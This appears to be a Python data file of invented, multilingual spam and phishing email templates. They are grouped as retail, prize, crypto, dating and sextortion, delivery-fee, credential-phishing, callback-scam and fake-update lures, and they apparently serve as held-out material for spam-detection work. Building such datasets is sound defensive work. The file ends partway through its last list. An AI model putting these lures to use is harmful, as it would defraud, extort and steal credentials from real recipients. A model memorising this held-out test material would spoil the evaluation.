# SPDX-License-Identifier: CC0-1.0
# holdout5: spam campaigns. Every text below was written for this corpus.
import datetime as dt

from build import (align_rrule, new_msg, freemail_sender, set_sender, gcal_env, event, attendee, org, spam_domain, hosted, short, redirect,
                   phone_for, phone, wa_number, fill, zw, homoglyph, FREEMAIL)
from core import alnum, hexid, uuid4, b64url, UTC
from i18n import person, LANG
from clients import button_html


def E(l, s, b, **kw):
    d = dict(l=l, s=s, b=b)
    d.update(kw)
    return d


# ---------------------------------------------------------------- texts
RETAIL = [
    E("en", "Ray-Ban & Oakley Sunglasses Only $19.99 Today", "Black Friday Sale!!! Ray-Ban and Oakley sunglasses 90% OFF, only $19.99, free shipping worldwide. Shop now: {url}",
      v="icloud", y=(2016, 2016), words=["rayban", "sale", "outlet", "store"], mo=(11,)),
    E("en", "Michael Kors Bags Clearance 80% Off - Christmas Deal", "Dear customer,\nMichael Kors handbags, wallets and watches clearance. Every item under $39.99. Limited stock, ends at midnight.\n{url}",
      v="icloud", y=(2016, 2017), words=["mk", "bags", "outlet", "clearance"], mo=(12,)),
    E("en", "UGG boots $29.99 winter sale", "UGG Classic Short & Tall boots winter clearance sale\nONLY $29.99 !!!\n100% genuine sheepskin, free shipping\n{url}",
      v="icloud", y=(2016, 2017), words=["ugg", "boots", "cheap", "sale"], mo=(11, 12, 1)),
    E("en", "Pandora jewelry 85% off Cyber Monday", "Cyber Monday Pandora charms and bracelets from $9.9\n>> {url} <<\nUnsubscribe: reply STOP",
      v="gcal", y=(2016, 2018), words=["pandora", "charms", "jewelry"], mo=(11,)),
    E("en", "Luxury Watches - Rolex, Omega, Cartier from $89", "Swiss grade AAA watches. Rolex Submariner, Omega Seamaster, Cartier Tank and more from $89 with 1 year warranty. Discreet worldwide delivery.\nVisit {url}",
      v="esp", y=(2016, 2021), words=["swiss", "watches", "replica", "lux"], x={"altdesc"}),
    E("en", "nike air max factory outlet $39", "nike air max factory outlet store . all sizes in stock . 70% off . free shipping over $99 . {url}",
      v="yahoo", y=(2017, 2018), words=["nike", "airmax", "factory", "outlet"]),
    E("zh", "双十一狂欢 Ray-Ban雷朋太阳镜 全场1折", "双十一特惠！雷朋、欧克利太阳镜全场1折起，包邮到家。\n抢购地址：{url}\n数量有限，先到先得！",
      v="icloud", y=(2016, 2016), words=["rayban", "shop", "cn"], mo=(11,)),
    E("zh", "【年终清仓】正品名牌包包 99元起", "年终清仓大促，Coach、MK正品包包99元起，支持货到付款。\n加微信了解更多：{pick:vip8868|lv2016dd|bag9999}\n官网：{url}",
      v="icloud", y=(2016, 2017), words=["bags", "vip", "mall"], mo=(12, 1)),
    E("ja", "【期間限定】ブランド腕時計 最大90%OFF セール開催中", "人気ブランド腕時計が最大90%OFF！\nロレックス・オメガ・カルティエなど多数入荷。\n送料無料・代引き可能\n今すぐチェック → {url}",
      v="free_other", y=(2017, 2020), words=["brand", "watch", "jp"]),
    E("de", "Ray-Ban Sonnenbrillen nur 19,99€ – Sommerschlussverkauf", "Sommerschlussverkauf! Original Ray-Ban und Oakley Sonnenbrillen jetzt nur 19,99€. Kostenloser Versand nach ganz Deutschland.\nJetzt zugreifen: {url}",
      v="gcal", y=(2017, 2019), words=["sonnenbrillen", "sale", "shop"]),
    E("fr", "Soldes : Sacs Longchamp -75% jusqu'à dimanche", "Grande braderie Longchamp ! Sacs Le Pliage à partir de 29€, livraison offerte en 48h.\nProfitez-en vite : {url}\nOffre valable dans la limite des stocks.",
      v="php", y=(2017, 2022), words=["sacs", "pliage", "soldes", "boutique"]),
]

PRIZE = [
    E("en", "Congratulations! You've been selected for a $500 Walmart Gift Card", "You have been chosen to participate in our 30-second customer survey. Complete it today to claim your $500 Walmart Gift Card.\n\nClaim here: {url}\n\nOffer expires {deadline:1}.",
      v="gcal", words=["walmart", "rewards", "survey"], link="gforms"),
    E("en", "{first}, your Costco reward is waiting", "Costco Members: Your loyalty reward is pending. Answer 4 questions about your shopping experience and receive an exclusive reward worth up to $90.\n{url}",
      v="esp", words=["costco", "member", "rewards"], link="redir"),
    E("en", "[Winner] iPhone 16 Pro - final notice", "FINAL NOTICE!!\nYou are todays lucky visitor. Your iPhone 16 Pro is reserved for you for 15 minutes. Pay only shipping $1.95\n{url}",
      v="outlookcom", y=(2024, 2026), words=["iphone", "winner", "promo"], x={"locurl"}),
    E("en", "U WON!!!", "Congrats u won our weekly draw. claim ur prize now {url} ref#{ref:6}", v="free_other", words=["prize", "claim"], link="short"),
    E("en", "Amazon Prime: thank you for 5 years - loyalty gift inside", "Dear Prime member,\n\nTo celebrate your continued membership we are giving selected customers a complimentary loyalty gift. Your entry has been confirmed.\n\nTo receive it, simply complete a short satisfaction survey (about 1 minute) and confirm your delivery address.\n\n{url}\n\nThis offer is limited to one per household.",
      v="look", words=["prime", "loyalty", "gift", "amzn"], polished="Claim my gift", brand="Amazon Prime"),
    E("de", "Herzlichen Glückwunsch! Sie haben einen Lidl-Gutschein über 250 € gewonnen", "Lieber Lidl-Kunde,\nSie wurden zufällig ausgewählt, an unserer Kundenumfrage teilzunehmen. Als Dankeschön erhalten Sie einen Einkaufsgutschein im Wert von 250 €.\nJetzt teilnehmen: {url}\nDie Aktion endet heute um 23:59 Uhr.",
      v="gcal", words=["lidl", "gutschein", "umfrage"], link="host"),
    E("fr", "Félicitations {first} ! Votre coffret Leroy Merlin vous attend", "Bonjour,\nVous avez été sélectionné(e) pour recevoir un coffret d'outils Bosch offert par Leroy Merlin. Il vous suffit de répondre à notre questionnaire et de régler les frais de port (1,95 €).\n{url}",
      v="spoof", words=["leroymerlin", "cadeau", "fr"], brand="Leroy Merlin", sdom="leroymerlin.fr"),
    E("es", "¡Enhorabuena! Has ganado una tarjeta regalo de Mercadona", "Has sido seleccionado/a para recibir una tarjeta regalo de 300€ de Mercadona. Responde a unas preguntas rápidas y confirma tus datos para recibirla.\nAccede aquí: {url}\n¡Solo quedan 3 tarjetas!",
      v="gcal", words=["mercadona", "regalo", "premio"], x={"icsonly"}),
    E("it", "Gentile cliente, hai vinto un set di pentole Lagostina", "Gentile cliente, sei stato estratto per ricevere un set di pentole Lagostina in omaggio! Completa il sondaggio e paga solo la spedizione di 2€.\n{url}",
      v="php", words=["omaggio", "premi", "clienti"]),
    E("pt", "Parabéns! Você ganhou um Pix de R$ 1.500", "Olá {first}! Seu CPF foi sorteado na promoção de aniversário. Para receber o Pix de R$ 1.500, responda a pesquisa rápida e confirme seus dados:\n{url}\nPrazo: 24 horas.",
      v="outlookcom", words=["pix", "premio", "sorteio"], link="short"),
    E("nl", "Gefeliciteerd! U maakt kans op een Albert Heijn cadeaukaart t.w.v. €500", "Beste klant,\nBedankt voor uw trouw. Vul onze korte enquête in en ontvang een AH-cadeaukaart van €500.\nKlik hier: {url}\nLet op: deze actie verloopt vandaag.",
      v="esp", words=["ah", "bonus", "enquete"]),
    E("pl", "Gratulacje! Wygrałeś bon Biedronka 1000 zł", "Twój adres e-mail został wylosowany w naszej loterii. Odbierz bon o wartości 1000 zł w 2 minuty:\n{url}\nOferta ważna tylko dziś!",
      v="gcal", words=["biedronka", "bon", "nagroda"], link="host", x={"altdesc"}),
    E("sv", "Grattis! Du har valts ut att få ett presentkort från ICA", "Hej!\nDu har blivit utvald att delta i vår kundundersökning. Som tack får du ett presentkort på 2 500 kr från ICA.\nSvara här: {url}",
      v="m365t", words=["ica", "present", "kund"]),
]

CRYPTO = [
    E("en", "Your Bitcoin withdrawal of 0.7834 BTC is pending", "Hello,\nYour account has an unclaimed balance of 0.7834 BTC ($52,318.40). To complete the withdrawal, log in to your dashboard and confirm your wallet within 48 hours.\nLogin: {url}\nUser ID: {digits:7}",
      v="look", y=(2020, 2026), words=["btc", "wallet", "profit", "trade"], x={"alarm"}),
    E("en", "New AI trading platform - members earn £1,500/day", "Breaking: the AI trading platform everyone is talking about is now open to UK residents. Minimum deposit £250. Our members earn on average £1,500 per day with 97% accuracy.\nRegister before spots run out: {url}",
      v="esp", y=(2021, 2026), words=["quantum", "ai", "trade", "uk"], link="redir"),
    E("en", "Crypto Investment Seminar - 300% returns", "Join our private online seminar. Learn how our members turned $1,000 into $30,000 in 3 months with our AI arbitrage bot.\nZoom link: {url}\nAsk for mentor Jessica on WhatsApp +{wa}",
      v="gcal", y=(2021, 2026), words=["zoom", "seminar", "crypto"], x={"conf"}),
    E("en", "USDT airdrop claim NOW", "claim 5000 USDT airdrop , connect wallet {url} . only 24h left !!!", v="free_other", y=(2021, 2026), words=["usdt", "airdrop", "claim"], link="host"),
    E("en", "Private pre-sale allocation confirmed (NEXA token)", "Hi {first},\n\nThank you for registering interest in the NEXA private round. Your whitelist allocation of 25,000 NEXA at $0.018 is reserved until {deadline:2}.\n\nListing price on major exchanges is expected at $0.12 (6.6x).\n\nComplete your allocation via the secure investor portal:\n{url}\n\nBest regards,\nInvestor Relations",
      v="look", y=(2021, 2026), words=["nexa", "presale", "token", "finance"], polished="Complete allocation"),
    E("ru", "Пассивный доход от 150 000 ₽ в месяц — вебинар", "Приглашаем вас на бесплатный вебинар о заработке на криптовалюте. Наш алгоритм приносит от 150 000 ₽ в месяц без опыта.\nРегистрация: {url}\nПишите в Telegram: @{pick:invest_pro_ru|crypto_mentor77|bitok_signal}",
      v="free_other", y=(2018, 2026), words=["invest", "kripto", "dohod"], link="short"),
    E("de", "Ihr Bitcoin-Guthaben von 1,2 BTC wurde freigegeben", "Sehr geehrte/r {name},\nIhr Konto bei BitProfit weist ein Guthaben von 1,2 BTC auf. Um die Auszahlung zu veranlassen, bestätigen Sie bitte Ihre Identität.\n{url}\nIhr persönlicher Berater ruft Sie heute unter Ihrer hinterlegten Nummer an.",
      v="esp", y=(2019, 2026), words=["bitprofit", "auszahlung", "de"]),
    E("tr", "Kripto yatırımıyla günde 5.000 TL kazanın", "Türkiye'de binlerce kişi yapay zeka destekli platformumuzla her gün kazanıyor. Minimum yatırım sadece 2.500 TL.\nHemen kayıt ol: {url}",
      v="gcal", y=(2021, 2026), words=["kripto", "kazanc", "yatirim"]),
    E("ko", "[긴급] 코인 리딩방 VIP 무료 초대", "수익률 300% 보장 리딩방 VIP 무료 초대합니다.\n선착순 50명 한정!\n카카오톡 오픈채팅: {url}\n문의: {phone}",
      v="free_other", y=(2019, 2026), link="kakao"),
    E("vi", "Cơ hội đầu tư tiền số lãi 30%/tháng", "Chào bạn, quỹ đầu tư của chúng tôi đang mở đợt nhận vốn mới với lợi nhuận cam kết 30% mỗi tháng. Rút tiền bất cứ lúc nào.\nĐăng ký tại: {url}\nZalo: {phone}",
      v="gcal", y=(2020, 2026), words=["dautu", "coin", "vn"], x={"icsonly"}),
    E("ar", "فرصة استثمارية: أرباح يومية من تداول العملات الرقمية", "مرحباً،\nانضم إلى منصتنا للتداول الآلي واحصل على أرباح يومية تصل إلى 2000 دولار. الحد الأدنى للإيداع 250 دولار فقط.\nسجل الآن: {url}\nللتواصل عبر واتساب: +{wa}",
      v="outlookcom", y=(2020, 2026), words=["trade", "invest", "gulf"]),
    E("pt", "Robô de investimento: lucre R$ 3.000 por semana", "Descubra o robô que está deixando brasileiros ricos. Lucro médio de R$ 3.000 por semana operando criptomoedas no automático.\nVagas limitadas: {url}",
      v="esp", y=(2020, 2026), words=["robo", "lucro", "cripto"], x={"altdesc"}),
]

DATING = [
    E("en", "Hi there 😘 I saw your profile", "hey, I am Anna, 26 y.o. I saw your profile and want to chat with you. I'm new in your city. here are my photos {url} write me there ok? kiss",
      v="gcal", words=["anna", "date", "chat"], link="host"),
    E("en", "3 local singles sent you a message", "3 women near you sent you a message. See who's waiting: {url}", v="esp", words=["singles", "meet", "local"], link="redir"),
    E("en", "I have recorded you - {ref:6}", "I know your password. I installed malware on the adult site you visited and recorded you through your webcam. Transfer $1450 in Bitcoin to this wallet: bc1q{lower:38}\nYou have 48 hours. If I do not receive the payment, the video goes to all your contacts.",
      v="spoof_self", y=(2018, 2026), link=None),
    E("en", "Private meeting request from Olivia", "Olivia (24) wants to meet you privately this weekend. Confirm the date in this invitation or view her photos here: {url}",
      v="icloud", words=["olivia", "private", "meet"]),
    E("en", "Security notice regarding your account {email}", "Hello,\n\nYou don't know me, but I know a lot about you. Some months ago I gained access to the devices you use for browsing. I have been watching your activity and I have a video that you would not want your colleagues to see.\n\nThe solution is simple: send 0.021 BTC to bc1q{lower:38}. Once the payment is received, everything is deleted permanently. You have 72 hours from the moment you open this invitation.\n\nDo not reply and do not contact the police; I will know.",
      v="free_other", y=(2019, 2026), link=None, x={"altdesc"}),
    E("de", "Hallo Süßer, Lust auf ein Treffen?", "Hi, ich bin Lena aus deiner Nähe, 29 und single. Hab dein Profil gesehen und fand dich echt süß :) Schreib mir hier: {url}",
      v="gcal", words=["lena", "treffen", "flirt"], link="short"),
    E("fr", "Une femme de votre région veut vous rencontrer", "Bonjour, Sophie (31 ans) a consulté votre profil et souhaite vous rencontrer ce soir. Voir son message : {url}",
      v="esp", words=["rencontre", "coquine", "fr"]),
    E("ru", "Привет, давай познакомимся 💋", "Привет! Меня зовут Катя, мне 25. Увидела твою анкету, давай общаться? Мои фото и контакты тут: {url}",
      v="free_other", words=["katya", "love", "znakomstva"], link="host"),
    E("es", "Tienes 2 mensajes nuevos de Valeria", "Valeria te ha enviado 2 mensajes privados y quiere quedar contigo. Léelos aquí antes de que se borren: {url}",
      v="yahoo", words=["valeria", "citas", "chat"]),
    E("ja", "【未読メッセージ】ゆかりさんからのお誘い", "はじめまして、ゆかりです♪ 近くに住んでる人と会いたくて登録しました。今夜空いてますか？\n写真はこちら→{url}",
      v="free_other", words=["yukari", "deai", "love"], link="short"),
    E("cs", "Mám vaše video – přečtěte si to", "Dobrý den, mám přístup k vašemu počítači a nahrál jsem vás přes webkameru. Pošlete 1200 USD v bitcoinech na adresu bc1q{lower:38} do 48 hodin, jinak video pošlu všem vašim kontaktům.",
      v="spoof_self", y=(2018, 2026), link=None),
]

FEES = [
    E("en", "USPS: Your package is on hold - redelivery fee $1.99", "USPS Notice: Your package could not be delivered due to an incomplete address. Please update your address and pay the $1.99 redelivery fee within 24h: {url}\nTracking: US{digits:9}",
      v="gcal", y=(2020, 2026), words=["usps", "redelivery", "track"], brand="USPS"),
    E("en", "E-ZPass: Unpaid toll balance $6.85", "E-ZPass Final Notice: You have an outstanding toll of $6.85. To avoid a late fee of $50 and suspension of your license, pay by {deadline:1}:\n{url}",
      v="look", y=(2023, 2026), words=["ezpass", "toll", "pay", "ny"], x={"locurl"}, brand="E-ZPass"),
    E("en", "IRS Tax Refund Notification - Case #{digits:8}", "Internal Revenue Service\nAfter the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of $1,284.56. Please submit the tax refund request and allow 3-5 business days to process.\nSubmit here: {url}",
      v="spoof", y=(2016, 2024), words=["irs", "refund", "gov"], brand="IRS Online", sdom="irs.gov"),
    E("en", "FedEx: Import duty payment required (AWB {digits:12})", "Dear Customer,\nYour international shipment is held at customs pending payment of import duties of $27.40. Failure to pay within 3 days will result in the parcel being returned to sender.\nPay duties online: {url}",
      v="esp", y=(2019, 2026), words=["fedex", "duty", "customs"], brand="FedEx Delivery Manager", polished="Pay duties"),
    E("en", "Invoice #INV-{digits:5} overdue - final reminder", "Hi,\nPlease find our overdue invoice for $3,480.00 (web hosting and maintenance). Payment was due 14 days ago. Kindly settle today to avoid service interruption.\nView & pay invoice: {url}\nAccounts Receivable",
      v="m365t", y=(2019, 2026), link="host", x={"attach"}),
    E("en", "Royal Mail: we have your parcel. Settle £2.99 shipping fee", "Royal Mail: Your parcel is waiting for delivery. Please confirm the settlement of £2.99 on the following link: {url}",
      v="free_other", y=(2020, 2025), words=["royalmail", "redeliver", "uk"]),
    E("de", "DHL: Ihre Sendung wird beim Zoll festgehalten", "Sehr geehrter Kunde,\nIhre Sendung mit der Nummer JJD{digits:16} wurde vom Zoll zurückgehalten. Bitte begleichen Sie die Einfuhrabgaben von 3,49 € innerhalb von 48 Stunden, andernfalls wird die Sendung an den Absender zurückgeschickt.\n{url}",
      v="spoof", y=(2019, 2026), words=["dhl", "zoll", "paket"], brand="DHL Express", sdom="dhl.de"),
    E("fr", "ANTAI - Avis de contravention non réglée", "Vous avez une amende impayée de 35 €. Sans règlement avant le {deadline:2}, elle sera majorée à 75 €.\nRéglez en ligne : {url}",
      v="gcal", y=(2021, 2026), words=["antai", "amende", "paiement"], brand="ANTAI"),
    E("es", "Correos: Su paquete está pendiente de pago de aduanas", "Estimado cliente, su paquete con número ES{digits:9}ES está retenido. Debe abonar 1,99 € en concepto de gastos de aduana.\nPagar ahora: {url}",
      v="php", y=(2019, 2025), words=["correos", "aduana", "envio"], brand="Correos"),
    E("it", "Poste Italiane: spedizione in giacenza", "Gentile cliente, il suo pacco è in giacenza presso il nostro centro di smistamento. Per la riconsegna è necessario il pagamento di 1,99 €.\n{url}",
      v="outlookcom", y=(2020, 2026), words=["poste", "giacenza", "pacco"], brand="Poste Italiane", x={"icsonly"}),
    E("nl", "CJIB: openstaande boete - laatste aanmaning", "Geachte heer/mevrouw,\nVolgens onze administratie staat er nog een verkeersboete van €129,00 open. Betaalt u niet voor {deadline:2}, dan wordt het bedrag verhoogd en volgt een dwangbevel.\nBetaal direct via iDEAL: {url}",
      v="look", y=(2020, 2026), words=["cjib", "boete", "betalen"], brand="CJIB"),
    E("pt", "Correios: Encomenda tributada - pague a taxa", "Sua encomenda foi tributada pela Receita Federal. Taxa de importação: R$ 54,90. Efetue o pagamento via Pix em até 3 dias úteis ou o objeto será devolvido.\nRastreio: NL{digits:9}BR\n{url}",
      v="gcal", y=(2021, 2026), words=["correios", "taxa", "rastreio"], brand="Correios", link="host"),
    E("pl", "InPost: Paczka oczekuje na dopłatę 2,99 zł", "Twoja paczka nie mogła zostać doręczona z powodu niepełnego adresu. Uzupełnij dane i dopłać 2,99 zł: {url}",
      v="free_other", y=(2021, 2026), words=["inpost", "paczka", "doplata"], brand="InPost"),
    E("cs", "Česká pošta: Doplatek za zásilku", "Vaše zásilka čeká na doplacení poštovného 39 Kč. Bez zaplacení do 24 hodin bude vrácena odesílateli.\nZaplatit: {url}",
      v="esp", y=(2020, 2026), words=["posta", "zasilka", "cz"], brand="Česká pošta"),
    E("ro", "ANAF: Aveți o rambursare de impozit în valoare de 1.240 lei", "Stimate contribuabil,\nÎn urma recalculării, aveți dreptul la o rambursare de 1.240 lei. Completați formularul online pentru a primi suma în contul dvs. bancar.\n{url}",
      v="gcal", y=(2020, 2026), words=["anaf", "rambursare", "ro"], brand="ANAF", link="host"),
]

PHISH = [
    E("en", "Your {zw:PayPal} account has been limited", "We noticed some unusual activity on your PayPal account. As a precaution, we've limited what you can do with your account until you confirm your information.\n\nResolve now: {url}\n\nCase ID: PP-{digits:3}-{digits:3}-{digits:3}",
      v="look", words=["paypal", "resolution", "center", "secure"], brand="PayPal", polished="Resolve now"),
    E("en", "Password Expiry Notice for {email}", "Your password for {email} expires today. To keep using your current password, please confirm below. If you do not, you will be logged out of Outlook, Teams and OneDrive.\n\nKeep Current Password: {url}\n\nMicrosoft 365 Admin",
      v="m365t", y=(2019, 2026), link="host", brand="Microsoft 365 Admin", polished="Keep Current Password"),
    E("en", "Completed: Please review and sign: Q4 Payroll Adjustment.pdf", "DocuSign\n\nHuman Resources sent you a document to review and sign.\n\nREVIEW DOCUMENT: {url}\n\nPlease review the payroll adjustment before {deadline:1}.\n\nDo Not Share This Email: This email contains a secure link to DocuSign.",
      v="gcal", y=(2020, 2026), link="host", brand="DocuSign via HR", polished="REVIEW DOCUMENT"),
    E("en", "Adobe Acrobat Sign: Contract_Amendment_{digits:4}.pdf shared with you", "A PDF has been shared with you through Adobe Document Cloud.\nOpen the file to view and e-sign: {url}\nThe link will expire in 72 hours.",
      v="esp", y=(2019, 2026), link="host", brand="Adobe Document Cloud", x={"attach"}),
    E("en", "You have a new voicemail (0:47) from +1 ***-***-{digits:4}", "Microsoft Teams\n\nYou received a voicemail message.\nDuration: 00:00:47\nReceived: {day}\n\nPlay message: {url}",
      v="look", y=(2020, 2026), words=["voicemail", "teams", "vm", "msg"], brand="Teams Voicemail", x={"altdesc"}),
    E("en", "HR shared \"2025 Salary Review\" with you", "HR Department shared a file with you\n\n2025 Salary Review & Bonus Allocation.xlsx\n\nThis link only works for the direct recipients of this message.\nOpen: {url}",
      v="m365t", y=(2024, 2026), link="sharepoint", brand="HR Department"),
    E("en", "Your Apple ID was used to sign in to iCloud on a new device", "Dear Customer,\nYour Apple ID ({email}) was used to sign in to iCloud via a web browser.\nDate and Time: {day}\nBrowser: Chrome, Windows\nLocation: Lagos, Nigeria\n\nIf you have not signed in recently, verify your account immediately: {url}",
      v="spoof", y=(2016, 2022), words=["appleid", "verify", "support"], brand="Apple", sdom="apple.com"),
    E("en", "netflix - payment declined update ur card", "your netflix membership is on hold. we could not process ur last payment. update billing info in 48h or account will be closed {url}",
      v="free_other", words=["netflix", "billing", "update"], link="short"),
    E("de", "Sparkasse: Wichtige Sicherheitsmitteilung – pushTAN-Verfahren", "Sehr geehrte Kundin, sehr geehrter Kunde,\naufgrund neuer gesetzlicher Vorgaben ist eine Aktualisierung Ihres pushTAN-Verfahrens erforderlich. Ohne Aktualisierung wird Ihr Online-Banking am {deadline:3} gesperrt.\nJetzt aktualisieren: {url}\nMit freundlichen Grüßen\nIhre Sparkasse",
      v="esp", y=(2019, 2026), words=["sparkasse", "pushtan", "sicherheit"], brand="Sparkasse", polished="Jetzt aktualisieren"),
    E("fr", "Ameli : votre carte Vitale doit être renouvelée", "Madame, Monsieur,\nVotre carte Vitale arrive à expiration. Afin de continuer à bénéficier de vos remboursements, veuillez effectuer la demande de renouvellement en ligne (frais d'envoi : 1,50 €).\n{url}\nL'Assurance Maladie",
      v="gcal", y=(2019, 2026), words=["ameli", "vitale", "assure"], brand="Assurance Maladie"),
    E("es", "BBVA: Hemos bloqueado temporalmente su cuenta", "Estimado cliente:\nHemos detectado un acceso no autorizado a su banca online. Por su seguridad hemos bloqueado temporalmente su cuenta. Para reactivarla, verifique su identidad:\n{url}",
      v="spoof", words=["bbva", "seguridad", "clientes"], brand="BBVA", sdom="bbva.es"),
    E("it", "Intesa Sanpaolo: conferma i tuoi dati entro 24 ore", "Gentile cliente, a seguito di un aggiornamento dei nostri sistemi è necessario confermare i tuoi dati. In caso contrario il tuo conto verrà sospeso.\nAccedi qui: {url}",
      v="php", words=["intesa", "conferma", "clienti"], brand="Intesa Sanpaolo"),
    E("ja", "【Amazon】お支払い方法の確認が必要です", "Amazonをご利用いただきありがとうございます。\nお客様のアカウントでお支払い方法に問題が発生しました。24時間以内にご確認いただけない場合、アカウントを一時停止させていただきます。\n\nご確認はこちら：{url}\n\nAmazon.co.jp カスタマーサービス",
      v="look", words=["amazon", "co", "jp", "account"], brand="Amazon.co.jp", x={"icsonly"}),
    E("ko", "[네이버] 새로운 기기에서 로그인 시도가 감지되었습니다", "회원님의 네이버 계정에 해외 IP에서 로그인 시도가 있었습니다.\n본인이 아닐 경우 즉시 비밀번호를 변경하세요.\n{url}",
      v="free_other", words=["naver", "security", "login"], brand="네이버"),
    E("ru", "Госуслуги: подтвердите учетную запись", "Уважаемый пользователь!\nВаша учетная запись на портале Госуслуг будет заблокирована в связи с истечением срока подтверждения. Подтвердите данные до {deadline:1}:\n{url}",
      v="free_other", words=["gosuslugi", "lk", "podtverdit"], brand="Госуслуги"),
    E("pt", "Nubank: compra suspeita de R$ 2.349,90 no seu cartão", "Identificamos uma compra de R$ 2.349,90 na loja Magazine Luiza. Se não reconhece, cancele agora: {url}\nSe preferir, ligue para a central: {phone}",
      v="gcal", words=["nubank", "seguranca", "cartao"], brand="Nubank"),
    E("he", "התראת אבטחה: החשבון שלך ייחסם", "לקוח יקר,\nזוהתה פעילות חריגה בחשבונך. לצורך אימות פרטיך יש להיכנס לקישור הבא תוך 24 שעות:\n{url}\nבברכה, מחלקת אבטחה",
      v="esp", words=["bank", "secure", "il"], brand="מחלקת אבטחה"),
]

CALLBACK = [
    E("en", "Norton LifeLock Auto-Renewal Confirmation - Invoice #{digits:9}", "Dear Customer,\nThank you for renewing your Norton 360 Total Protection subscription. Your account has been charged $399.99.\n\nProduct: Norton 360 Deluxe (5 Devices)\nTerm: 3 years\nPayment: Automatic debit\n\nIf you did not authorize this renewal or wish to cancel and receive a refund, call our billing department within 24 hours: {phone}\n\nNorton Billing Team",
      v="gcal", brand="Norton Billing"),
    E("en", "McAfee Total Protection - Your subscription has been renewed", "Order ID: MCF-{digits:8}\nAmount: $289.99\n\nYour McAfee subscription was automatically renewed today. For cancellation call {phone} (toll free).", v="gcal", brand="McAfee Support"),
    E("en", "Geek Squad: Annual membership renewed ($449.99)", "Hello {first},\nYour Geek Squad Total Tech Support membership has been successfully renewed for another year. Amount debited: $449.99.\nQuestions or refund? Contact us at {phone} (Mon-Sat 9AM-8PM).",
      v="outlookcom", brand="Geek Squad", x={"icsonly"}),
    E("en", "PayPal invoice from Bitcoin Services LLC: $842.16", "Bitcoin Services LLC sent you an invoice for $842.16 USD.\nDue on receipt.\nNote from seller: If you did not authorize this transaction, call PayPal Support immediately at {phone}.",
      v="esp", brand="service@paypal.com", dkimd="paypal.com", y=(2021, 2026)),
    E("en", "Coinbase: Withdrawal request of 0.25 BTC initiated", "A withdrawal of 0.25 BTC to address 3J98t1Wp{lower:20} was requested from your account.\nIf this was not you, call Coinbase Support now at {phone} to cancel the transaction. Do not reply to this message.",
      v="gcal", brand="Coinbase Security", y=(2021, 2026)),
    E("en", "Windows Defender: Threat detected - Trojan:Win32/Zeus", "WARNING! Your computer has been infected with Trojan:Win32/Zeus. Your personal data, banking details and Facebook login are at risk.\nDo not shut down your computer. Call Microsoft Support immediately: {phone}",
      v="free_other", brand="Windows Defender", x={"alarm"}),
    E("en", "Amazon: Your order of Apple MacBook Pro has been dispatched", "Order #{digits:3}-{digits:7}-{digits:7}\nApple MacBook Pro 16\" M3 Max - $3,299.00\nShipping to: Houston, TX\n\nIf you did not place this order, call Amazon Order Protection: {phone}",
      v="gcal", brand="Amazon Orders", y=(2023, 2026)),
    E("en", "PAYMENT RECEIVED - $599.00 - call if not u", "ur payment 599.00 usd for Norton Antivirus proccesed successfully. to cancel call {phone}", v="yahoo"),
    E("en", "Your BestBuy Subscription Is Being Renewed", "Invoice: BBY-{digits:8}\nDescription: Geek Squad Protection - 2 years\nTotal: $319.99\nTo stop this renewal please call {phone} within 24 hrs.",
      v="icloud", x={"altdesc"}),
    E("de", "Ihre Norton-Lizenz wurde verlängert – 349,99 €", "Sehr geehrter Kunde,\nIhr Norton 360 Abonnement wurde automatisch um 3 Jahre verlängert. Der Betrag von 349,99 € wird in Kürze von Ihrem Konto abgebucht.\nFalls Sie die Verlängerung nicht wünschen, rufen Sie unseren Kundendienst an: {phone}",
      v="gcal", brand="Norton Kundenservice"),
    E("fr", "Confirmation de renouvellement McAfee – 299,99 €", "Bonjour,\nVotre abonnement McAfee LiveSafe a été renouvelé pour 299,99 €. Pour annuler et être remboursé, contactez notre service client au {phone}.",
      v="outlookcom", brand="McAfee Facturation"),
    E("es", "Confirmación de pago: Suscripción PC Protect 389,99 €", "Gracias por su compra. Se ha cargado 389,99 € en su cuenta por la renovación de PC Protect Premium. Si no reconoce este cargo llame al {phone}.",
      v="gcal"),
    E("it", "Rinnovo abbonamento Avast Premium – ordine n. {digits:8}", "Gentile cliente, il suo abbonamento Avast Premium Security è stato rinnovato per 2 anni. Importo addebitato: 279,99 €. Per annullare chiamare il {phone}.",
      v="free_other", brand="Avast Assistenza"),
]

UPDATE = [
    E("en", "Zoom: your client is out of date - update required before meeting", "Your Zoom client (version 5.9.x) is no longer supported. To join \"{pick:Quarterly Business Review|Board Meeting|Project Sync}\" you must install the latest update.\n\nDownload update: {url}\n\nMeeting ID: {digits:3} {digits:4} {digits:4}",
      v="look", y=(2020, 2026), words=["zoom", "us", "update", "meeting"], file="ZoomInstallerFull.msi", x={"conf"}, brand="Zoom"),
    E("en", "Microsoft Teams: update required to join scheduled meeting", "You have been invited to a Microsoft Teams meeting. Your Teams version is outdated and cannot join this meeting.\nInstall Teams update: {url}",
      v="m365t", y=(2021, 2026), words=["teams", "live", "update"], file="TeamsSetup_x64.msi"),
    E("en", "Meeting invitation - verify you are human to view the agenda", "To view the meeting agenda please complete the verification:\n1. Press Windows + R\n2. Paste the verification code (Ctrl + V)\n3. Press Enter\n\nVerification page: {url}",
      v="compromised", y=(2024, 2026), words=["captcha", "verify", "cloud", "check"], clickfix=True, x={"altdesc"}),
    E("en", "Webex: install the meeting plug-in to join", "Your Webex meeting starts soon. The Webex Meetings plug-in for your browser is missing.\nInstall: {url}",
      v="esp", y=(2020, 2025), words=["webex", "plugin", "meet"], file="webex_plugin.exe"),
    E("en", "Chrome update required to display meeting documents", "The document attached to this meeting cannot be displayed in your version of Chrome.\nUpdate now: {url}",
      v="gcal", y=(2022, 2026), link="host", file="ChromeSetup.zip"),
    E("de", "Zoom-Update erforderlich – Ihre Besprechung beginnt in Kürze", "Ihre Zoom-Version ist veraltet. Um an der Besprechung teilzunehmen, installieren Sie bitte das aktuelle Update:\n{url}\nBesprechungskennung: {digits:3} {digits:4} {digits:4}",
      v="look", y=(2020, 2026), words=["zoom", "de", "update"], file="Zoom_Update.exe", x={"icsonly"}),
    E("fr", "Invitation : vérification requise avant la réunion", "Pour accéder à la réunion, veuillez confirmer que vous n'êtes pas un robot :\n1. Appuyez sur Windows + R\n2. Collez le code (Ctrl + V)\n3. Appuyez sur Entrée\n{url}",
      v="compromised", y=(2024, 2026), words=["verif", "humain", "cloud"], clickfix=True),
